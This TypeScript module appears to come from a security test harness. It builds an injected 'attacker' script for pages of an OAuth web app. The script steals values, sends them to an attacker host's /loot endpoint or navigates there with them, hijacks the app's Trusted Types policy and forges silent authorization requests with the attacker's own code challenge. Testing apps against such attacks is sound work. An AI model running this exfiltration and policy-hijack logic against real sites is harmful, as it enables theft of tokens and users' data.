import type { Attack, Facts, Injected, Payload } from "./attack.js";
import { candidatesIn } from "./secrets.js";

declare global {
  /** The attacker's script in a page of the app. */
  var attacker: {
    /** Runs a payload until it ends or times out. */
    run(name: string): Promise<string>;
    /** How the last payload ended, if it has ended. */
    ending: string | undefined;
    /** Sends what could not be sent at once. */
    flush(): Promise<void>;
    /** Receives values from script in another document of the same origin. */
    take(name: string, candidates: string[]): void;
  };
}

/** The path of the attacker's script in a victim's page: next to the app's own, like a dependency. */
export const INJECTED_SCRIPT = "/assets/dependency.js";

/** Time limit for a payload, in milliseconds. */
const PAYLOAD_TIME = 9_000;

/**
 * The source of the attacker's script. `hooks` run in every document before the app; payloads run when the driver starts
 * them. With `createsPolicy` the script runs first and creates the page's Trusted Types policy.
 */
export function injectedScript(
  facts: Facts,
  attacks: readonly Attack[],
  hooks: ReadonlySet<string>,
  createsPolicy: boolean,
): string {
  const payloads = attacks.flatMap(({ name, payload }) => (payload ? [entry(name, payload)] : []));
  const early = attacks.flatMap(({ name, hook }) => (hook && hooks.has(name) ? [entry(name, hook)] : []));
  return `(() => {
    // esbuild wraps named functions in this helper. In the page it does nothing.
    const __name = (named) => named;
    (${install.toString()})(${JSON.stringify(facts)}, {${payloads.join(",\n")}}, {${early.join(",\n")}}, ${PAYLOAD_TIME}, ${createsPolicy}, ${candidatesIn.toString()}, ${authorizationUrl.toString()});
  })();`;
}

/**
 * An authorization request with the attacker's own code challenge, as part of the flow `name`. Its source runs in pages, so it uses only its
 * arguments.
 */
export function authorizationUrl(
  facts: Facts,
  name: string,
  parameters: Record<string, string> = {},
): string {
  const query = new URLSearchParams({
    response_type: "code",
    client_id: facts.clientId,
    redirect_uri: facts.redirectUri,
    scope: facts.scope,
    state: `attack.${name}`,
    nonce: "attack",
    code_challenge: facts.codeChallenge,
    code_challenge_method: "S256",
    prompt: "none",
    ...parameters,
  });
  return `${facts.authorizationEndpoint}?${query}`;
}

/** The source of a payload as a member of an object, by the attack's name. */
export function entry(name: string, payload: Payload): string {
  // The test runner replaces `import()` with a function of its own.
  const text = payload.toString().replaceAll("__vite_ssr_dynamic_import__(", "import(");
  const key = JSON.stringify(name);
  const method = /^(async\s+)?(?:hook|payload)(?=\s*\()/;
  return method.test(text) ? text.replace(method, (_, async = "") => async + key) : `${key}: ${text}`;
}

/** Runs first in the page. It saves the globals it needs, so that hooks do not affect it. */
function install(
  facts: Facts,
  payloads: Record<string, Payload>,
  hooks: Record<string, Payload>,
  payloadTime: number,
  createsPolicy: boolean,
  candidatesIn: (text: string) => string[],
  authorizationUrl: (facts: Facts, name: string, parameters?: Record<string, string>) => string,
): void {
  const {
    fetch,
    setTimeout,
    sessionStorage,
    history,
    JSON: json,
    Promise: Pledge,
    trustedTypes,
  } = globalThis as typeof globalThis & {
    trustedTypes?: { createPolicy(name: string, rules: object): { createScriptURL(url: string): string } };
  };
  const pause = (milliseconds: number) =>
    new Pledge<void>((resolve) => setTimeout(() => resolve(), milliseconds));

  /** Sent and unsent values, by attack. */
  const seen = new Set<string>();
  const waiting: [string, string][] = [];
  let stealing = false;
  let sending: Promise<void> | undefined;

  const take = (name: string, candidates: string[]) => {
    for (const candidate of candidates) {
      if (seen.has(`${name} ${candidate}`)) continue;
      seen.add(`${name} ${candidate}`);
      waiting.push([name, candidate]);
    }
    if (waiting.length > 0) sending ??= pause(20).then(send);
  };

  /** If the page's policy forbids the request, navigates instead; with a 204 the page stays. */
  let blocked = false;
  const send = async () => {
    sending = undefined;
    if (blocked || waiting.length === 0) return;
    const batch = waiting.splice(0);
    stealing = true;
    const body = json.stringify(batch);
    stealing = false;
    try {
      await fetch(`${facts.attackerUrl}/loot`, {
        method: "POST",
        mode: "no-cors",
        keepalive: true,
        body,
      });
    } catch {
      blocked = true;
      waiting.unshift(...batch);
    }
  };
  const flush = async () => {
    await (sending ?? send());
    if (!blocked) return;
    if (top !== window) {
      for (const [name, candidate] of waiting.splice(0))
        (top as typeof globalThis | null)?.attacker.take(name, [candidate]);
      return;
    }
    while (waiting.length > 0) {
      // The server rejects long URLs.
      const batch: [string, string][] = [];
      for (let length = 0; waiting[0] && length < 10_000; length += waiting[0]?.[1].length ?? 0) {
        batch.push(waiting.shift() as [string, string]);
      }
      // The functions called here may be hooked.
      stealing = true;
      location.href = `${facts.attackerUrl}/loot?${new URLSearchParams({ loot: json.stringify(batch) })}`;
      stealing = false;
      await pause(250);
    }
  };
  // Unsent values pass to the tab's next document.
  const luggage = "luggage";
  const carried = sessionStorage.getItem(luggage);
  if (carried !== null) {
    sessionStorage.removeItem(luggage);
    waiting.push(...(json.parse(carried) as [string, string][]));
  }
  addEventListener("pagehide", () => {
    if (waiting.length > 0) sessionStorage.setItem(luggage, json.stringify(waiting));
  });

  // The first script of a page can create the one policy that the app's headers allow, and share it with the app.
  let policy: { createScriptURL(url: string): string } | undefined;
  if (trustedTypes && createsPolicy) {
    const rules = { createScriptURL: (url: string) => url, createHTML: (html: string) => html };
    try {
      const created = trustedTypes.createPolicy("strongroom", rules);
      policy = created;
      const { createPolicy } = trustedTypes;
      trustedTypes.createPolicy = (name, own) =>
        name === "strongroom" ? created : createPolicy.call(trustedTypes, name, own);
    } catch {
      // The policy exists already.
    }
  }

  const slugOf = (name: string) => name.toLowerCase().replace(/\W+/g, "-");
  const toolsOf = (name: string): Injected => ({
    ...facts,
    attackerUrl: `${facts.attackerUrl}/${slugOf(name)}`,
    siblingUrl: `${facts.siblingUrl}/${slugOf(name)}`,
    pause,
    done: (request) =>
      new Pledge((resolve, reject) => {
        request.onsuccess = () => resolve(request.result);
        request.onerror = () => reject(request.error);
      }),
    scriptUrl: (url) => (policy ? policy.createScriptURL(url) : url),
    steal(...values) {
      if (stealing) return;
      stealing = true;
      try {
        for (const value of values) {
          const text =
            typeof value === "string" ? value : value instanceof URL ? value.href : json.stringify(value);
          if (text) take(name, candidatesIn(text));
        }
      } catch {
        // The value cannot be serialized.
      } finally {
        stealing = false;
      }
    },
    authorizationUrl: (parameters) => authorizationUrl(facts, slugOf(name), parameters),
  });

  Object.defineProperty(globalThis, "attacker", {
    value: {
      take,
      flush,
      ending: undefined,
      async run(name: string) {
        const payload = payloads[name];
        if (!payload) return "there is no such payload";
        const outcome = (async () => {
          try {
            await payload(toolsOf(name));
            return "ran";
          } catch (error) {
            return `threw ${error}`;
          }
        })();
        attacker.ending = undefined;
        const ending = await Pledge.race([outcome, pause(payloadTime).then(() => "had its time")]);
        attacker.ending = ending;
        return ending;
      },
    },
  });

  // If the attacker's flow in a frame, popup or tab has ended in this document, report it.
  const arrived = /[?&#]state=attack\.([\w-]+)/.exec(location.href);
  if (arrived?.[1]) {
    toolsOf(arrived[1]).steal(location.href);
    void flush();
    history.replaceState(history.state, "", location.pathname);
  }
  for (const [name, hook] of Object.entries(hooks)) {
    try {
      hook(toolsOf(name));
    } catch {
      // The app has frozen what this attack changes.
    }
  }
}
